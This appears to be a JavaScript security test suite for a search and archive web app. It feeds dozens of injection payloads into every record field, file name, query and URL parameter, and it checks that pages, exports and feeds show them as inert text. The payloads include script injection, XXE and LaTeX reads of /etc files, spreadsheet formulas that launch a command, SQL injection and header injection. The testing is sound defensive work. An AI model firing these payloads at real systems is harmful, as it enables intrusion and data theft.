// What documents, file names, queries and addresses hold stays text, in every view and every file. Each payload is
// in all fields of a document of its own.
import assert from "node:assert/strict";
import {mkdirSync, writeFileSync} from "node:fs";
import {join} from "node:path";
import {after, before, it} from "node:test";
import {FAILED_REQUEST, onPage, open, texts} from "./browser.js";
import {index, serve, writeRecords} from "./server.js";

const PAYLOADS = [
    "<script>window.broken=1</script>", "\"><img src=x onerror=window.broken=1>", "'><svg onload=window.broken=1>", "</title><script>window.broken=1</script>",
    "</textarea></style></noscript><script>window.broken=1</script>", "<svg><style><img src=x onerror=window.broken=1></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=window.broken=1&gt;\">",
    "<noscript><p title=\"</noscript><img src=x onerror=window.broken=1>\">", "<svg></p><style><a id=\"</style><img src=1 onerror=window.broken=1>\">",
    "<a href=javascript:window.broken=1>x</a>", "javascript:window.broken=1", "JaVaScRiPt\t:window.broken=1", "data:text/html,<script>parent.broken=1</script>",
    "vbscript:msgbox(1)", "//elsewhere.example/x.js", "https://elsewhere.example/\"onmouseover=window.broken=1", "https://user:secret@elsewhere.example/#<b>",
    "{{content}}", "${window.broken=1}", "{{constructor.constructor('window.broken=1')()}}", "<%= 7*7 %>", "#{7*7}", "<!--#exec cmd=\"id\"-->", "<?php echo 1 ?>", "{n} {all} {why} {places}",
    "</script><script>window.broken=1</script>", "\\u003cscript\\u003ewindow.broken=1\\u003c/script\\u003e", "{\"__proto__\":{\"broken\":1}}", "__proto__", "constructor", "toString",
    "&lt;img src=x onerror=window.broken=1&gt;", "&#x3C;script&#x3E;", "+ADw-script+AD4-", "<iframe srcdoc='<script>parent.broken=1</script>'></iframe>",
    "<base href=https://elsewhere.example/>", "<meta http-equiv=refresh content=0;url=https://elsewhere.example/>", "<link rel=stylesheet href=https://elsewhere.example/>",
    "<form action=https://elsewhere.example/><input name=q>", "<object data=https://elsewhere.example/>", "<div style=\"background:url(https://elsewhere.example/)\">",
    "*{background:url(https://elsewhere.example/)}", "</style><style>*{display:none}", "]]><script>window.broken=1</script>", "<![CDATA[x]]>", "<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/hostname\">]>&y;",
    "\u202Egpj.exe", "\u2067abc\u2066<b>\u2069", "\u200B\uFEFF<b>", "a\u0300".repeat(50), "line\nbreak\r\nSet-Cookie: broken=1", "\u2028window.broken=1\u2029", "%0d%0aSet-Cookie:%20broken=1", "%3Cscript%3E",
    "=HYPERLINK(\"https://elsewhere.example/?\"&A1,\"x\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "＝1+1", "'; DROP TABLE inputs; --",
    "ER  - \r\nTY  - STAT", "},\n@misc{evil,\n title={x}", "\\input{/etc/passwd}", "\"quoted\" and «more»", "../../etc/passwd", "C:\\windows\\win.ini", "con", "x".repeat(3000),
];

const NAMES = [
    "\"><img src=x onerror=window.broken=1>.txt", "'onmouseover='window.broken=1'.txt", "line\nbreak.txt", "\u202Etxt.exe.txt", "javascript:window.broken=1.txt", "<b>&amp;.txt", "a#b?c%20d.txt",
    " -rf .txt", "=1+1.txt", "中文\u200B名.txt", "{{content}}.txt", "back\\slash.txt",
];

// A document with this text in all of its fields.
function record(payload, at) {
    return {
        id: `hostile/${at}/${payload.slice(0, 200)}`, title: `${payload} title`, lang: ["en", "x-<b>", payload.slice(0, 30)][at % 3], kind: payload, source: payload, publisher: payload,
        jurisdiction: payload, collection: payload, url: payload, rights: payload, work_id: at % 2 === 0 ? payload : "shared work", status: payload, published: "2020",
        identifiers: [{scheme: payload, value: payload}], relations: [{type: payload, target: payload, label: payload}], subjects: [{scheme: payload, code: payload, label: payload}],
        metadata: {[payload]: payload, nested: {[payload]: [payload]}},
        segments: [{id: `s/${payload.slice(0, 50)}`, label: payload.slice(0, 500), kind: "section", page: 1, text: `Lighthouse ${payload} keeper ${payload}`},
                   {id: "second", label: null, kind: "heading", text: `Lighthouse ${payload}`}, {id: "third", label: `${payload} 2`, kind: "article", text: "Lighthouse keepers."}],
    };
}

// All that a view may be made of.
const OURS = new Set(("a article aside bdi body button code dd details dialog div dl dt fieldset footer form h1 h2 head header html input kbd label legend li link "
    + "main mark meta nav noscript ol option p pre rect script section select span summary svg table tbody td th thead time title tr ul").split(" "));
const ATTRIBUTES = new Set(("action aria-activedescendant aria-autocomplete aria-busy aria-controls aria-current aria-describedby aria-expanded aria-hidden aria-keyshortcuts aria-label "
    + "aria-labelledby aria-selected aria-valuemax aria-valuemin aria-valuenow aria-valuetext autocapitalize autocomplete charset class content data-field data-languages data-live data-name "
    + "data-ui data-view datetime dir download enterkeyhint for form height hidden href hreflang id lang maxlength method name open pattern placeholder preserveAspectRatio rel role scope "
    + "selected spellcheck src start style tabindex title type value viewBox width x y").split(" "));

// What is on the page and is not ours.
function odd(page) {
    return page.evaluate(([elements, attributes]) => [...document.querySelectorAll("*")].flatMap((element) => {
        const name = element.localName;
        const found = elements.includes(name) ? [] : [name];
        for (const attribute of element.getAttributeNames()) {
            if (!attributes.includes(attribute)) found.push(`${name}[${attribute}]`);
        }
        if (element.getAttribute("style")?.includes("url")) found.push("style");
        for (const attribute of ["href", "src", "action"]) {
            const value = element.getAttribute(attribute);
            if (typeof value === "string" && !/^https?:$/.test(new URL(value, location.href).protocol)) found.push(`${name}[${attribute}=${value}]`);
            if (attribute !== "href" && value !== null && new URL(value, location.href).origin !== location.origin) found.push(value);
        }
        if (name === "script" && element.getAttribute("src") !== "app.js") found.push("another script");
        if (name === "link" && new URL(element.href).origin !== location.origin) found.push(element.href);
        return found;
    }).concat(globalThis.broken === undefined && ({}).broken === undefined ? [] : ["it was run"]), [[...OURS], [...ATTRIBUTES]]);
}

// RFC 4180.
function csvRows(text) {
    const rows = [[]];
    for (const [, quoted, plain, end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/g)) {
        rows.at(-1).push(quoted?.replaceAll("\"\"", "\"") ?? plain);
        if (end === "\r\n") rows.push([]);
        if (end === "") break;
    }
    return rows.filter((row) => row.length > 1);
}

export function injectionTests(world) {
    let server = null;
    before(async () => {
        const files = join(world.folder, "hostile files");
        mkdirSync(files);
        NAMES.forEach((name, at) => writeFileSync(join(files, name), `Lighthouse in a file with an odd name, number ${at}.`));
        const records = writeRecords(world.folder, "hostile <b> records", PAYLOADS.map(record));
        server = await serve(index(world.folder, "hostile-index", [records, files]));
    });
    after(() => server?.stop());
    const at = (address) => server.address + address;
    const test = (name, options, body) => it(name, () => onPage({...world, address: server.address}, options, async (page) => {
        page.on("dialog", () => { throw new Error("a dialog"); });
        await body(page);
        assert.ok(page.url().startsWith(server.address), page.url());
    }, FAILED_REQUEST));
    const ids = async () => {
        const found = [];
        for (let cursor = null; cursor !== undefined;) {
            const answer = await (await fetch(at(`api/v1/search?${cursor === null ? "q=lighthouse&limit=100" : new URLSearchParams({cursor})}`))).json();
            found.push(...answer.hits.map((hit) => hit.id));
            cursor = answer.cursor ?? undefined;
        }
        return found;
    };

    test("is text in results, filters, suggestions and the timeline", {}, async (page) => {
        assert.equal((await ids()).length, PAYLOADS.length + NAMES.length);
        for (let number = 1; number <= Math.ceil((PAYLOADS.length + NAMES.length) / 20); ++number) {
            await open(page, at(`?q=lighthouse&time=count&page=${number}`));
            assert.deepEqual(await odd(page), [], `page ${number}`);
        }
        for (const button of await page.$$("#filters .more")) await button.click();
        await page.waitForLoadState("networkidle");
        assert.deepEqual(await odd(page), [], "filters");
        for (const begin of ["lighth", "titl", "<scri", "=HYP"]) {
            await page.fill("#q", begin);
            await page.locator("#q").press("End");
            await page.waitForLoadState("networkidle");
            assert.deepEqual(await odd(page), [], begin);
        }
        await page.goto(at("archive"));
        assert.deepEqual(await odd(page), [], "archive");
    });

    test("is text in every document, its citations and its versions", {}, async (page) => {
        const all = await ids();
        for (const id of all) {
            await open(page, at(`?q=lighthouse&doc=${encodeURIComponent(id)}`));
            for (const summary of await page.$$("details:not([open]) > summary")) await summary.click();
            assert.deepEqual(await odd(page), [], id);
            assert.equal(await page.$eval(".text", (text) => text.querySelectorAll("mark").length > 0), true, id);
        }
        const shared = all.filter((id) => /^hostile\/\d*[13579]\//.test(id));
        for (let first = 0; first + 1 < shared.length; first += 8) {
            await open(page, at(`?doc=${encodeURIComponent(shared[first])}&beside=${encodeURIComponent(shared[first + 1])}`));
            assert.equal((await texts(page, ".row")).length > 1, true);
            assert.deepEqual(await odd(page), [], shared[first]);
        }
    });

    for (const javaScriptEnabled of [true, false]) {
        test(`is text in queries and addresses ${javaScriptEnabled ? "with" : "without"} script`, {javaScriptEnabled}, async (page) => {
            const names = ["q", "doc", "beside", "lang", "kind", "-kind", "source", "publisher", "jurisdiction", "collection", "from", "to", "sort", "reading", "ui", "page", "at", "time", "versus",
                           "density", "filters", "nonsense"];
            // Each payload in each name would be 1,500 pages: every name meets every kind of payload in turn.
            for (const [number, payload] of PAYLOADS.entries()) {
                const given = new URLSearchParams({q: "lighthouse", time: "count"});
                for (let each = 0; each < 4; ++each) given.set(names[(number + each * 6) % names.length], payload);
                const others = [`?${new URLSearchParams({q: payload})}`, `archive?${given}`, `similar?${new URLSearchParams({id: payload})}`, `${encodeURIComponent(payload)}`,
                                `?q=lighthouse#${encodeURIComponent(payload)}`];
                for (const address of [`?${given}`, `?${new URLSearchParams({q: `"${payload}"`})}`, others[number % others.length]]) {
                    if (address.length > 8000) continue;
                    await page.goto(at(address.replace(/^(%2F|\/)+/, "")));
                    if (javaScriptEnabled && await page.$("body[data-view=search]") !== null) await page.waitForSelector("html[data-live]");
                    assert.deepEqual(await odd(page), [], address);
                }
            }
        });
    }

    test("is text in files of all hits and in the feed", {}, async (page) => {
        const all = await ids();
        const csv = csvRows(await (await fetch(at("api/v1/export?q=lighthouse&format=csv"))).text());
        assert.equal(csv.length, all.length + 2);
        assert.ok(csv.every((row) => row.length === csv[0].length));
        for (const cell of csv.flat()) assert.ok(!/^[=+\-@＝＋－＠\t\r\n]/.test(cell), cell);
        const lines = (await (await fetch(at("api/v1/export?q=lighthouse&format=jsonl"))).text()).trimEnd().split("\n");
        assert.equal(lines.map((line) => JSON.parse(line)).length, all.length + 1);
        const ris = await (await fetch(at("api/v1/export?q=lighthouse&format=ris"))).text();
        assert.equal(ris.match(/^TY {2}- /gm).length, all.length + 1);
        for (const line of ris.split("\r\n")) assert.match(line, /^([A-Z][A-Z0-9] {2}- [^\r\n]*)?$/);
        const bibtex = await (await fetch(at("api/v1/export?q=lighthouse&format=bib"))).text();
        assert.equal(bibtex.match(/^@misc\{/gm).length, all.length);
        assert.ok(!bibtex.includes("\\input") && !bibtex.includes("@misc{evil"));
        const feed = await (await fetch(at("api/v1/feed?q=lighthouse"))).text();
        await open(page, at(""));
        assert.deepEqual(await page.evaluate((xml) => {
            const parsed = new DOMParser().parseFromString(xml, "application/xml");
            return [...new Set([...parsed.querySelectorAll("*")].map((element) => element.localName))].sort();
        }, feed), ["author", "category", "entry", "feed", "id", "link", "name", "summary", "title", "updated"]);
        for (const payload of PAYLOADS.slice(0, 50)) {
            const answer = await fetch(at(`api/v1/feed?${new URLSearchParams({q: `"${payload}"`})}`));
            assert.equal(answer.headers.get("set-cookie"), null);
            assert.match(answer.headers.get("content-type"), /^application\/(atom\+xml|problem\+json)/);
        }
    });
}
